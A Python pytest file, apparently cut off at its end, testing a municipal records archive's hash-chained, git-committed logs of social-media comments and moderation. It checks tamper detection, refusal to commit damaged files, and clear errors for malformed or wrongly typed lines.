"""The records archive: tamper-evident, searchable, exportable for FOI, with retention."""

from __future__ import annotations

import codecs
import csv
import hashlib
import html
import json
import os
import re
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from invoke.context import Context
from invoke.exceptions import Exit

import tasks
from archive import git as archive_git
from archive.chain import ChainFile, chained_line, line_hash, rechain
from archive.collect import collect
from archive.comment_types import check_types as check_comment_types
from archive.export import (
    Finder,
    PersonalInfo,
    announcement_history,
    export,
    personal_information,
)
from archive.git import ArchiveSyncError, commit_archive, removed_records
from archive.index import FILES, chains, date_bound, read_records, reindex, search
from archive.retention import (
    MINIMUM_YEARS,
    RetentionError,
    RetentionPolicy,
    due_for_disposition,
    hold_warnings,
    pictures_due,
)
from moderation.classifier import ModerationPolicy, classify
from moderation.log import ModerationLog
from moderation.run import decide, moderate_collected
from sandboxes import Sandboxes, start_all
from syndication.ledger import PHASES
from tests.conftest import ROOT, Site


@pytest.fixture
def archive(site: Site) -> Path:
    """A records archive with posts, comments (one edited, one deleted) and moderation."""
    records = site.root / "records"
    with start_all() as boxes:
        site.add("2026-11-20-flushing")
        site.add(
            "2026-11-21-bridge",
            title="Bridge deck repairs",
            date="2026-11-21 09:00",
            summary="Night work on the Victoria Street Bridge deck.",
        )
        settings = site.syndicate_to(boxes)
        posts = {p["link"]: pid for pid, p in boxes.facebook.posts.items()}
        flushing = next(pid for link, pid in posts.items() if "flushing" in link)
        bridge = next(pid for link, pid in posts.items() if "bridge" in link)
        first = boxes.facebook.add_comment(flushing, "Is Laurel Crescent included?", "Avery Lee")
        boxes.facebook.add_comment(
            flushing, "Call me at 250-555-0199 about the leak", "Jordan Park", parent=first
        )
        gone = boxes.facebook.add_comment(bridge, "Night work is noisy", "Sam Ortiz")
        boxes.facebook.add_comment(bridge, "What a load of bullshit", "Riley Cole")
        collect(settings, site.content, say=lambda _: None)
        boxes.facebook.edit_comment(first, "Is Laurel Crescent included? And Hazelwood?")
        boxes.facebook.delete_comment(gone)
        collect(settings, site.content, say=lambda _: None)
        moderate_collected(
            settings, site.content, ModerationPolicy.load(ROOT / "policy"), say=lambda _: None
        )
    return records


def test_the_hash_chains_verify_and_detect_a_tampered_line(archive: Path) -> None:
    files = chains(archive)
    assert all(chain.verify() == [] for chain in files.values())
    comments = files["comment"].path
    lines = comments.read_text().splitlines()
    event = json.loads(lines[0])
    event["text"] = "Something the commenter never wrote"
    lines[0] = json.dumps(event, sort_keys=True)
    comments.write_text("\n".join(lines) + "\n")
    assert chains(archive)["comment"].verify() == [
        f"{comments}:2: hash chain broken (line changed or removed before it)"
    ]


def _verify_fails(archive: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """`invoke records verify` on the archive: it must fail; what it printed and said."""
    monkeypatch.setenv("RECORDS_DIR", str(archive))
    with pytest.raises(Exit) as stopped:
        tasks.verify(Context())
    assert stopped.value.code == 1
    return str(stopped.value.message)


def test_records_verify_notices_records_removed_from_the_end_of_a_file(
    archive: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # What is left of a file cut short still chains: only its committed history shows the loss.
    commit = commit_archive(archive, "CI run")
    assert commit
    moderation = archive / FILES["moderation"]
    lines = moderation.read_text().splitlines(keepends=True)
    moderation.write_text("".join(lines[:-2]))  # its last two records
    assert chains(archive)["moderation"].verify() == []
    message = _verify_fails(archive, monkeypatch)
    seq = [json.loads(line)["seq"] for line in lines[-2:]]
    assert capsys.readouterr().err == (
        f"{moderation}: 2 line(s) committed at {commit[:10]} are missing from its end: "
        f"lines {len(lines) - 1} to {len(lines)}, seq {seq[0]} to {seq[1]}\n"
    )
    assert message == "records verify: 1 problem(s): records were altered or removed."
    # Appending after the cut (the next run) hides nothing.
    ChainFile(moderation).append({"kind": "classification", "comment_id": "later"})
    _verify_fails(archive, monkeypatch)
    assert f"{moderation}: line {len(lines) - 1} is not the one committed" in (
        capsys.readouterr().err
    )


def test_records_verify_notices_a_whole_archive_file_removed(
    archive: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    commit = commit_archive(archive, "CI run")
    assert commit
    moderation = archive / FILES["moderation"]
    count = len(moderation.read_text().splitlines())
    moderation.unlink()
    _verify_fails(archive, monkeypatch)
    assert capsys.readouterr().err == (
        f"{moderation}: missing; {count} line(s) were committed at {commit[:10]}\n"
    )


# When `_commit_by_hand` commits, on a machine keeping UTC (CI's): late on the 24th in Trail,
# already the 25th there. And that time as every records command shows times.
COMMITTED = "2026-11-25T01:30:00+00:00"
COMMITTED_IN_CITY_TIME = "2026-11-24 17:30 -08:00"


def _commit_by_hand(records: Path, message: str) -> str:
    """The archive as it is, committed with git itself (a run refuses a damaged file): by hand,
    or by a run from before runs refused, at COMMITTED. Its commit."""
    git = ["git", "-C", str(records), "-c", "user.name=x", "-c", "user.email=x@x"]
    when = {"GIT_COMMITTER_DATE": COMMITTED, "GIT_AUTHOR_DATE": COMMITTED, "TZ": "UTC"}
    subprocess.run(
        [*git, "commit", "-q", "-a", "-m", message], check=True, env={**os.environ, **when}
    )
    return subprocess.run(
        [*git, "rev-parse", "HEAD"], check=True, capture_output=True, text=True
    ).stdout.strip()


def test_records_verify_notices_records_removed_in_a_commit(
    archive: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # A file cut short and committed stays in the archive's history.
    commit_archive(archive, "CI run")
    comments = archive / FILES["comment"]
    comments.write_text("".join(comments.read_text().splitlines(keepends=True)[:-1]))
    (archive / FILES["post"]).unlink()
    cut = _commit_by_hand(archive, "Records not yet committed")
    _verify_fails(archive, monkeypatch)
    problems = capsys.readouterr().err.splitlines()
    assert problems == [
        f"{archive / FILES['comment']}: commit {cut[:10]} ({COMMITTED_IN_CITY_TIME}, "
        "Records not yet committed) removed records from it",
        f"{archive / FILES['post']}: commit {cut[:10]} ({COMMITTED_IN_CITY_TIME}, "
        "Records not yet committed) deleted it",
    ]


def _changed_decision(moderation: Path, where: str) -> int:
    """A hide in the moderation file turned into a keep, as the hash chain cannot see it: in
    the last line, which no later line's hash covers (the reviewer's decision, the same
    length), or in an earlier line with the lines after it chained again (the classifier's
    action). The number of the line changed."""
    lines = moderation.read_text().splitlines()
    if where == "last line":
        assert '"decision": "hide"' in lines[-1]
        lines[-1] = lines[-1].replace('"decision": "hide"', '"decision": "keep"')
        changed = len(lines)
    else:
        changed = next(n for n, line in enumerate(lines, start=1) if '"action": "hide"' in line)
        edited = lines[changed - 1].replace('"action": "hide"', '"action": "keep"')
        kept = lines[: changed - 1]
        lines = kept + rechain(kept, [edited, *lines[changed:]])
    moderation.write_text("".join(f"{line}\n" for line in lines))
    assert ChainFile(moderation).verify() == []
    return changed


@pytest.mark.parametrize("where", ["last line", "earlier line, chain redone"])
def test_records_verify_names_a_commit_that_changed_records(
    archive: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    where: str,
) -> None:
    commit_archive(archive, "CI run")
    monkeypatch.setenv("RECORDS_DIR", str(archive))
    tasks.verify(Context())  # intact: the next verify reads only what was committed since
    moderation = archive / FILES["moderation"]
    changed = _changed_decision(moderation, where)
    edit = _commit_by_hand(archive, "Moderate comments")
    _add_comment(archive, "later", "Laurel Crescent again", "2026-11-25T18:00:00+00:00")
    commit_archive(archive, "Collect comments")  # appended to since: the edit is still named
    capsys.readouterr()
    for _ in range(2):  # and named again, until it is put right
        _verify_fails(archive, monkeypatch)
        assert capsys.readouterr().err == (
            f"{moderation}: commit {edit[:10]} ({COMMITTED_IN_CITY_TIME}, Moderate comments) "
            f"changed records in it, from line {changed}\n"
        )


def test_records_verify_reads_only_the_versions_committed_since_it_last_found_them_intact(
    archive: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    compared: list[bytes] = []

    def not_appended(before: bytes, after: bytes) -> str | None:
        compared.append(after)
        return None

    commit_archive(archive, "CI run")
    assert removed_records(archive, FILES.values()) == []
    monkeypatch.setattr(archive_git, "_not_appended", not_appended)
    _add_comment(archive, "later", "Laurel Crescent again", "2026-11-25T18:00:00+00:00")
    commit_archive(archive, "Collect comments")
    assert removed_records(archive, FILES.values()) == []
    assert compared == [(archive / FILES["comment"]).read_bytes()]  # the one version since
    assert removed_records(archive, FILES.values(), full=True) == []
    assert len(compared) > 2  # --full: every version again


@pytest.mark.parametrize("where", ["last line", "earlier line, chain redone"])
def test_a_run_does_not_commit_records_changed_since_the_last_commit(
    archive: Path, where: str
) -> None:
    last = commit_archive(archive, "CI run")
    assert last
    moderation = archive / FILES["moderation"]
    changed = _changed_decision(moderation, where)
    with pytest.raises(ArchiveSyncError) as refused:  # as `invoke moderate` would commit it
        commit_archive(archive, "Moderate comments")
    assert str(refused.value).startswith(
        f"{moderation}: line {changed} is not the one committed at {last[:10]}"
    )
    assert "nothing was committed" in str(refused.value)
    head = subprocess.run(
        ["git", "-C", str(archive), "rev-parse", "HEAD"], capture_output=True, text=True
    )
    assert head.stdout.strip() == last


def test_a_commit_reads_only_the_lines_added_since_the_last_commit_it_found_intact(
    archive: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A decade of comments is tens of megabytes, and a run commits the archive after each
    step: reading every line again each time (parsed, hashed, compared with git's copy) took
    seconds a commit. Only the lines added since are read as lines."""
    commit_archive(archive, "CI run")
    comments = archive / FILES["comment"]
    committed = len(comments.read_bytes().splitlines())
    _add_comment(archive, "later", "Laurel Crescent again", "2026-11-25T18:00:00+00:00")
    read: list[tuple[str, int]] = []
    shown: list[str] = []
    lines_of, blob = ChainFile._lines, archive_git._blob

    def counted(chain: ChainFile, *args: Any, **kwargs: Any) -> Any:
        for number, line in lines_of(chain, *args, **kwargs):
            read.append((chain.path.name, number))
            yield number, line

    def committed_version(records: Path, revision: str, path: str) -> bytes | None:
        shown.append(path)
        return blob(records, revision, path)

    monkeypatch.setattr(ChainFile, "_lines", counted)
    monkeypatch.setattr(archive_git, "_blob", committed_version)
    assert commit_archive(archive, "Collect comments")
    assert read == [("comments.jsonl", committed + 1)]  # the new comment alone
    assert shown == []  # nor is a committed version read from git
    assert commit_archive(archive, "Moderate comments") is None
    assert read == [("comments.jsonl", committed + 1)]  # nothing added: nothing read


def _changed_in_place(path: Path) -> int:
    """A letter of the file's first line changed where it is, its length kept and the lines
    after it not chained again (the chain breaks at the next line). The next line's number.
    (Whichever comment collect archived first: the first letter of its text, in the other
    case.)"""
    lines = path.read_bytes().splitlines(keepends=True)
    written = json.loads(lines[0])["text"].encode()
    lines[0] = lines[0].replace(written, written[:1].swapcase() + written[1:], 1)
    path.write_bytes(b"".join(lines))
    return 2


@pytest.mark.parametrize("damage", ["changed", "changed and committed by hand", "cut short"])
def test_a_commit_after_one_found_intact_still_refuses_a_damaged_file(
    archive: Path, damage: str
) -> None:
    """Reading only the lines added since the last commit found intact misses nothing: a
    committed line changed where it is (the file's size and last line as they were), or
    committed so by hand, or a new line cut short."""
    last = commit_archive(archive, "CI run") or ""
    comments = archive / FILES["comment"]
    _add_comment(archive, "later", "Laurel Crescent again", "2026-11-25T18:00:00+00:00")
    if damage == "cut short":
        with comments.open("ab") as handle:  # the laptop's battery died here
            handle.write(b'{"kind": "comment", "text": "Cut sh')
        broken = f"{len(comments.read_bytes().splitlines())}: not valid JSON"
    else:
        broken = f"{_changed_in_place(comments)}: hash chain broken"
    if damage == "changed and committed by hand":
        last = _commit_by_hand(archive, "Collect comments")
        _add_comment(archive, "latest", "And Hazelwood?", "2026-11-25T19:00:00+00:00")
    with pytest.raises(ArchiveSyncError) as refused:
        commit_archive(archive, "Moderate comments")
    assert str(refused.value).startswith(f"{comments}:{broken}")
    assert "nothing was committed" in str(refused.value)
    head = subprocess.run(
        ["git", "-C", str(archive), "rev-parse", "HEAD"], capture_output=True, text=True
    )
    assert head.stdout.strip() == last


def test_records_verify_passes_an_archive_that_only_grew_since_its_commits(
    archive: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    commit_archive(archive, "CI run")
    _add_comment(archive, "later", "Laurel Crescent again", "2026-11-25T18:00:00+00:00")
    commit_archive(archive, "Collect comments")
    _add_comment(archive, "latest", "And Hazelwood?", "2026-11-25T19:00:00+00:00")
    monkeypatch.setenv("RECORDS_DIR", str(archive))
    tasks.verify(Context())
    assert capsys.readouterr().out == "records verify: every archive file is intact.\n"


def test_two_writers_of_one_chained_file_keep_its_chain_whole(tmp_path: Path) -> None:
    """Each writer chains from the file's last line as it is when it appends, not as it was
    when it opened the file: two runs appending to one ledger broke its chain, which
    `records verify` then reported as lines altered, false evidence of tampering."""
    path = tmp_path / "ledger.jsonl"
    first, second = ChainFile(path), ChainFile(path)
    first.append({"op": "a"})
    second.append({"op": "b"})
    first.extend([{"op": "c"}, {"op": "d"}])
    second.append({"op": "e"})
    assert ChainFile(path).verify() == []
    assert [(e["seq"], e["op"]) for e in ChainFile(path).events()] == list(
        enumerate("abcde", start=1)
    )


DAMAGED_HINT = ": the records archive is damaged; `invoke records verify` names every broken line."


# The records commands, each as a task reading RECORDS_DIR.
RECORDS_COMMANDS = [
    ("records search", lambda: tasks.search(Context(), "Laurel")),
    ("records reindex", lambda: tasks.reindex(Context())),
    ("records export", lambda: tasks.export(Context(), "", request="F-1", out="/nonexistent")),
    ("records retention", lambda: tasks.retention(Context(), dry_run=True)),
]


@pytest.mark.parametrize(
    ("damage", "problem"),
    [
        (b'{"kind": "comment", "text": "Cut sh', "not valid JSON (Unterminated string"),
        (b'{"kind": "comment", "text": "Caf\xc3', "not UTF-8 text (cut short?)"),
        (b"not json at all\n", "not valid JSON (Expecting value)"),
    ],
)
@pytest.mark.parametrize(
    ("command", "call"),
    [
        *RECORDS_COMMANDS,
        ("collect", lambda: tasks.collect(Context())),
        ("moderate", lambda: tasks.moderate(Context())),
        ("status", lambda: tasks.status(Context())),
    ],
)
def test_a_damaged_archive_stops_every_reader_with_its_file_and_line(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    damage: bytes,
    problem: str,
    command: str,
    call: Any,
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Is Laurel Crescent included?", "2026-11-24T18:00:00+00:00")
    comments = records / FILES["comment"]
    with comments.open("ab") as handle:  # as a power cut leaves it, or a careless edit
        handle.write(damage)
    (records / "syndication").mkdir()
    ledger = records / FILES["post"]
    ledger.write_bytes(damage)  # the ledger as damaged
    monkeypatch.setenv("RECORDS_DIR", str(records))
    with pytest.raises(Exit) as stopped:
        call()
    assert stopped.value.code == 2
    message = str(stopped.value.message)
    where = rf"({comments}:2|{ledger}:1)"
    assert re.match(rf"{command}: {where}: {re.escape(problem)}", message), message
    assert message.endswith(DAMAGED_HINT)


@pytest.mark.parametrize(("command", "call"), RECORDS_COMMANDS)
def test_a_line_without_a_field_stops_the_records_commands_naming_file_line_and_field(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str, call: Any
) -> None:
    """A line that is JSON but lacks a field every line of its kind has (added by hand) was a
    traceback (KeyError: 'platform')."""
    records = tmp_path / "records"
    _add_comment(records, "c1", "Is Laurel Crescent included?", "2026-11-24T18:00:00+00:00")
    comments = records / FILES["comment"]
    with comments.open("a") as handle:
        handle.write('{"kind": "comment", "text": "added by hand"}\n')
    monkeypatch.setenv("RECORDS_DIR", str(records))
    with pytest.raises(Exit) as stopped:
        call()
    assert stopped.value.code == 2
    assert str(stopped.value.message) == (
        f"{command}: {comments}:2: a comment line without its 'platform' field{DAMAGED_HINT}"
    )


# A moderation line of each kind as written by hand, each without a field its kind has.
REVIEWER = {
    "platform": "facebook",
    "comment_id": "c1",
    "who": "Records Officer",
    "reason": "Checked",
}


# The commands that read the moderation log to moderate or list it, each as called.
MODERATION_COMMANDS: list[tuple[str, Callable[[], None]]] = [
    ("moderate", lambda: tasks.moderate(Context())),
    ("moderate decide", lambda: tasks.decide(Context(), "c1", "keep", reason="Fine")),
    ("status", lambda: tasks.status(Context())),
    ("collect", lambda: tasks.collect(Context())),
]


@pytest.mark.parametrize(
    ("added", "field"),
    [
        ({"kind": "classification", "comment_id": "c1"}, "platform"),
        ({"kind": "decision", **REVIEWER, "decision": "keep"}, "result"),
        # Read only when the next run settles it: named at its own line all the same.
        ({"kind": "intent", **REVIEWER, "decision": "hide", "category": "derogatory"}, "op"),
    ],
    ids=["classification", "decision", "intent"],
)
@pytest.mark.parametrize(("command", "call"), MODERATION_COMMANDS)
def test_a_moderation_line_without_a_field_stops_moderate_naming_file_line_and_field(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    added: dict[str, str],
    field: str,
    command: str,
    call: Any,
) -> None:
    """A moderation line that is JSON but lacks a field (added by hand) stopped `moderate`,
    `moderate decide` and the review queue with a traceback (KeyError); they now stop as the
    records commands do, and record nothing."""
    said, log = _stopped_by_a_moderation_line(tmp_path, monkeypatch, added, call)
    assert said == (
        f"{command}: {log}:2: a moderation line without its '{field}' field{DAMAGED_HINT}"
    )


# Every command that reads the archive's comments and moderation log (and the ledger: all
# but `moderate decide`), as called.
ARCHIVE_READERS: list[tuple[str, Callable[[], None]]] = [
    *MODERATION_COMMANDS,
    ("records retention", lambda: tasks.retention(Context(), dry_run=True)),
    ("records search", lambda: tasks.search(Context(), "Laurel")),
    ("records reindex", lambda: tasks.reindex(Context())),
    ("records export", lambda: tasks.export(Context(), "Laurel", request="FOI-1", out="foi-out")),
]


# A moderation line of each kind as written by hand, complete, with a field of the wrong type.
CLASSIFIED = {
    "kind": "classification",
    "platform": "facebook",
    "comment_id": "c1",
    "version": 1,
    "action": "review",
    "categories": ["derogatory"],
    "evidence": {"derogatory": {"matched": ["idiots"], "reason": "An insult", "strong": False}},
}
DECIDED = {"kind": "decision", **REVIEWER, "decision": "keep", "category": None}
# What a line's fields may name, as a message lists them.
PLATFORMS = "expected one of facebook, twitter, youtube"
CATEGORY_NAMES = (
    "off_topic, derogatory, discriminatory, commercial, political, illegal, spam, "
    "public_safety, ip_violation"
)


@pytest.mark.parametrize(
    ("added", "field", "problem"),
    [
        ({**CLASSIFIED, "version": "2"}, "version", '"2"; expected a whole number, 1 or more'),
        ({**CLASSIFIED, "version": True}, "version", "true; expected a whole number, 1 or more"),
        (
            {**CLASSIFIED, "categories": "derogatory"},
            "categories",
            '"derogatory"; expected a list of text',
        ),
        (
            {**CLASSIFIED, "evidence": {"derogatory": {"reason": "An insult", "strong": "yes"}}},
            "evidence.derogatory.strong",
            '"yes"; expected true or false',
        ),
        (
            {**CLASSIFIED, "evidence": {"derogatory": "An insult"}},
            "evidence.derogatory",
            '"An insult"; expected a mapping of matched, reason, clause and strong',
        ),
        ({**DECIDED, "result": "applied", "reason": 3}, "reason", "3; expected text"),
        ({**DECIDED, "result": ["applied"]}, "result", '["applied"]; expected text'),
        # The version a decision is about (optional: older lines have none).
        (
            {**DECIDED, "result": "applied", "version": "2"},
            "version",
            '"2"; expected a whole number, 1 or more',
        ),
        (
            {**DECIDED, "op": "1", "kind": "intent", "version": 0},
            "version",
            "0; expected a whole number, 1 or more",
        ),
        (
            {**DECIDED, "op": "1", "who": ["Records Officer"], "category": "derogatory"}
            | {"kind": "intent", "decision": "hide"},
            "who",
            '["Records Officer"]; expected text',
        ),
        (
            {**DECIDED, "result": "applied", "category": 4},
            "category",
            f"4; expected one of {CATEGORY_NAMES}, or null",
        ),
        (
            {**DECIDED, "result": "applied", "time": 1764633600},
            "time",
            "1764633600; expected an ISO 8601 time with its offset",
        ),
        # Of the right type, a value its writers never give.
        ({**CLASSIFIED, "version": 0}, "version", "0; expected a whole number, 1 or more"),
        (
            {**CLASSIFIED, "kind": "classified"},
            "kind",
            '"classified"; expected one of classification, intent, decision',
        ),
        ({**CLASSIFIED, "platform": "instagram"}, "platform", f'"instagram"; {PLATFORMS}'),
        (
            {**CLASSIFIED, "action": "delete"},
            "action",
            '"delete"; expected one of keep, review, hide',
        ),
        (
            {**DECIDED, "result": "applied", "decision": "unhide"},
            "decision",
            '"unhide"; expected one of keep, hide',
        ),
        (
            {**DECIDED, "result": "applied", "decision": "hide", "category": "rude"},
            "category",
            f'"rude"; expected one of {CATEGORY_NAMES}, or null',
        ),
        (
            {**DECIDED, "result": "applied", "time": "x"},
            "time",
            '"x"; expected an ISO 8601 time with its offset',
        ),
        (
            {**DECIDED, "result": "applied", "time": "2026-11-24T18:00:00"},
            "time",
            '"2026-11-24T18:00:00"; expected an ISO 8601 time with its offset',
        ),
    ],
    ids=[
        "version-text",
        "version-bool",
        "categories-text",
        "evidence-strong",
        "evidence-entry",
        "reason",
        "result",
        "decision-version",
        "intent-version",
        "intent-who",
        "category",
        "time",
        "version-0",
        "kind-unknown",
        "platform-unknown",
        "action-unknown",
        "decision-unknown",
        "category-unknown",
        "time-not-a-time",
        "time-without-offset",
    ],
)
@pytest.mark.parametrize(("command", "call"), ARCHIVE_READERS)
def test_a_moderation_line_with_a_field_of_the_wrong_type_stops_naming_file_line_and_field(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    added: dict[str, Any],
    field: str,
    problem: str,
    command: str,
    call: Any,
) -> None:
    """A moderation line added by hand whose field has the wrong type (text for a number, a
    list for text) was a traceback later (TypeError), or was read wrongly (`"strong": "yes"`
    taken as weak evidence); it stops the commands as a missing field does, and records
    nothing."""
    said, log = _stopped_by_a_moderation_line(tmp_path, monkeypatch, added, call)
    assert said == (
        f"{command}: {log}:2: a moderation line whose '{field}' field is {problem}{DAMAGED_HINT}"
    )


# A comment's version and its deletion as written by hand, complete (as `_add_comment`).
COMMENTED = {
    "kind": "comment",
    "platform": "facebook",
    "announcement": "2026-11-20-flushing",
    "post_id": "p1",
    "comment_id": "c1",
    "version": 2,
    "author": "Quinn Reyes",
    "text": "Is Laurel Crescent included? Edited.",
    "created": "2026-11-24T18:00:00+00:00",
}
REMOVED = {
    **{key: COMMENTED[key] for key in ("platform", "announcement", "post_id", "comment_id")},
    "kind": "comment_deleted",
    "author": "Quinn Reyes",
}


@pytest.mark.parametrize(
    ("added", "field", "problem"),
    [
        ({**COMMENTED, "version": "2"}, "version", '"2"; expected a whole number, 1 or more'),
        ({**COMMENTED, "time": ["x"]}, "time", '["x"]; expected an ISO 8601 time with its offset'),
        ({**COMMENTED, "announcement": None}, "announcement", "null; expected text"),
        ({**COMMENTED, "text": 5}, "text", "5; expected text"),
        ({**COMMENTED, "by_city": "no"}, "by_city", '"no"; expected true or false'),
        ({**COMMENTED, "parent_id": 7}, "parent_id", "7; expected text or null"),
        ({**COMMENTED, "attachment": "photo"}, "attachment", '"photo"; expected a mapping or null'),
        (
            {**COMMENTED, "attachment": {"type": "photo", "media": {"image": "tub.jpg"}}},
            "attachment.media.image",
            '"tub.jpg"; expected a mapping or null',
        ),
        ({**REMOVED, "removed_with": 5}, "removed_with", "5; expected text"),
        ({**REMOVED, "comment_id": ["c1"]}, "comment_id", '["c1"]; expected text'),
        ({**COMMENTED, "picture": "tub.jpg"}, "picture", '"tub.jpg"; expected a mapping or null'),
        ({**COMMENTED, "picture": {"sha256": 5}}, "picture.sha256", "5; expected text"),
        # Of the right type, a value its writers never give.
        (
            {**COMMENTED, "created": "x"},
            "created",
            '"x"; expected an ISO 8601 time with its offset, or empty',
        ),
        (
            {**COMMENTED, "time": "2026-11-24"},
            "time",
            '"2026-11-24"; expected an ISO 8601 time with its offset',
        ),
        (
            {**COMMENTED, "updated": "yesterday"},
            "updated",
            '"yesterday"; expected an ISO 8601 time with its offset, or null',
        ),
        ({**COMMENTED, "platform": "instagram"}, "platform", f'"instagram"; {PLATFORMS}'),
        (
            {**COMMENTED, "kind": "comment_edited"},
            "kind",
            '"comment_edited"; expected one of comment, comment_deleted, comment_picture',
        ),
        ({**COMMENTED, "version": -1}, "version", "-1; expected a whole number, 1 or more"),
        (
            {**COMMENTED, "picture": {"sha256": "ab", "bytes": -5}},
            "picture.bytes",
            "-5; expected a whole number, 0 or more",
        ),
    ],
    ids=[
        "version",
        "time",
        "announcement",
        "text",
        "by_city",
        "parent_id",
        "attachment",
        "attachment-image",
        "removed_with",
        "deleted-comment_id",
        "picture",
        "picture-sha256",
        "created-not-a-time",
        "time-a-date",
        "updated-not-a-time",
        "platform-unknown",
        "kind-unknown",
        "version-negative",
        "picture-bytes-negative",
    ],
)
@pytest.mark.parametrize(("command", "call"), ARCHIVE_READERS)
def test_a_comment_line_with_a_field_of_the_wrong_type_stops_naming_file_line_and_field(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    added: dict[str, Any],
    field: str,
    problem: str,
    command: str,
    call: Any,
) -> None:
    """A comment line added by hand whose field has the wrong type was a traceback later
    (TypeError: a version "2" plus one), or was read wrongly (`"by_city": "no"` taken as the
    City's answer); it stops every reader as a moderation line does, and records nothing."""
    said, comments = _stopped_by_a_line(tmp_path, monkeypatch, "comment", added, call)
    assert said == (
        f"{command}: {comments}:2: a comment line whose '{field}' field is {problem}{DAMAGED_HINT}"
    )


# A ledger line as written by hand, complete: the post of the announcement made.
POSTED = {
    "phase": "done",
    "op": "1",
    "announcement": "2026-11-20-flushing",
    "platform": "facebook",
    "action": "create",
    "remote_id": "p1",
    "url": "https://facebook.example/p1",
    "text": "Water main flushing in Glenmerry",
}
# Each wrongly typed field of a ledger line, as written by hand: the line, the field, what
# it holds and what was expected.
LEDGER_TYPES = [
    ({**POSTED, "remote_id": 5}, "remote_id", "5; expected text"),
    ({**POSTED, "time": ["x"]}, "time", '["x"]; expected an ISO 8601 time with its offset'),
    ({**POSTED, "announcement": None}, "announcement", "null; expected text"),
    (
        {**POSTED, "action": "update", "corrections": "2"},
        "corrections",
        '"2"; expected a list of text or a whole number, 0 or more',
    ),
    (
        {**POSTED, "phase": "failed", "uncertain": "yes"},
        "uncertain",
        '"yes"; expected true or false',
    ),
    (
        {**POSTED, "phase": "deferred", "op": None, "resume_at": 1764633600},
        "resume_at",
        "1764633600; expected an ISO 8601 time with its offset, or null",
    ),
    ({**POSTED, "phase": "intent", "payload": "x"}, "payload", '"x"; expected a mapping'),
    # Of the right type, a value its writers never give.
    ({**POSTED, "platform": "instagram"}, "platform", f'"instagram"; {PLATFORMS}'),
    (
        {**POSTED, "phase": "posted"},
        "phase",
        '"posted"; expected one of intent, done, failed, deferred, cancelled, gone',
    ),
    (
        {**POSTED, "action": "delete"},
        "action",
        '"delete"; expected one of create, update, withdraw, adopt, collect, syndicate',
    ),
    ({**POSTED, "time": "x"}, "time", '"x"; expected an ISO 8601 time with its offset'),
    (
        {**POSTED, "updated": "2026-11-24"},
        "updated",
        '"2026-11-24"; expected an ISO 8601 time with its offset, or null',
    ),
    (
        {**POSTED, "phase": "deferred", "op": None, "resume_at": "tomorrow"},
        "resume_at",
        '"tomorrow"; expected an ISO 8601 time with its offset, or null',
    ),
    (
        {**POSTED, "action": "update", "corrections": -1},
        "corrections",
        "-1; expected a list of text or a whole number, 0 or more",
    ),
]
LEDGER_TYPE_IDS = [
    "remote_id",
    "time",
    "announcement",
    "corrections",
    "uncertain",
    "resume_at",
    "payload",
    "platform-unknown",
    "phase-unknown",
    "action-unknown",
    "time-not-a-time",
    "updated-a-date",
    "resume_at-not-a-time",
    "corrections-negative",
]
# The commands above that read the ledger, as called.
LEDGER_READERS = [reader for reader in ARCHIVE_READERS if reader[0] != "moderate decide"]


@pytest.mark.parametrize(("added", "field", "problem"), LEDGER_TYPES, ids=LEDGER_TYPE_IDS)
@pytest.mark.parametrize(("command", "call"), LEDGER_READERS)
def test_a_ledger_line_with_a_field_of_the_wrong_type_stops_naming_file_line_and_field(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    added: dict[str, Any],
    field: str,
    problem: str,
    command: str,
    call: Any,
) -> None:
    """A ledger line added by hand whose field has the wrong type (`"remote_id": 5`) was a
    traceback later, in whichever command read it (`str.startswith` of a number), or was read
    wrongly; it stops every reader as a moderation line does, and records nothing."""
    said, ledger = _stopped_by_a_line(tmp_path, monkeypatch, "post", added, call)
    assert said == (
        f"{command}: {ledger}:2: a ledger line whose '{field}' field is {problem}{DAMAGED_HINT}"
    )


@pytest.mark.parametrize(("command", "call"), LEDGER_READERS)
def test_a_ledger_line_without_a_field_stops_naming_file_line_and_field(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str, call: Any
) -> None:
    """A `gone` note added by hand without the post it found gone was a traceback (KeyError:
    'remote_id') in every command that folds the ledger."""
    gone = {**POSTED, "phase": "gone", "op": None, "action": "collect"}
    del gone["remote_id"]
    said, ledger = _stopped_by_a_line(tmp_path, monkeypatch, "post", gone, call)
    assert said == (
        f"{command}: {ledger}:2: a ledger line without its 'remote_id' field{DAMAGED_HINT}"
    )


def _stopped_by_a_moderation_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, added: dict[str, Any], call: Any
) -> tuple[str, Path]:
    """What `call` stops with (exit 2, recording nothing) over an archive whose moderation log
    has, after a classification of a comment, the line `added` written by hand (at the
    classification's time unless it gives one); and the log's path."""
    return _stopped_by_a_line(tmp_path, monkeypatch, "moderation", added, call)


def _stopped_by_a_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str, added: dict[str, Any], call: Any
) -> tuple[str, Path]:
    """What `call` stops with (exit 2, recording nothing) over an archive of a comment, its
    classification and the post it is on, whose file of `kind` (FILES) has, after its first
    line, the line `added` written by hand (at that line's time unless it gives one); and the
    file's path."""
    records, text = tmp_path / "records", "Is Laurel Crescent included?"
    _add_comment(records, "c1", text, "2026-11-24T18:00:00+00:00")
    log = ModerationLog(records)
    log.classified("facebook", 1, classify("c1", text, "", ModerationPolicy.load(ROOT / "policy")))
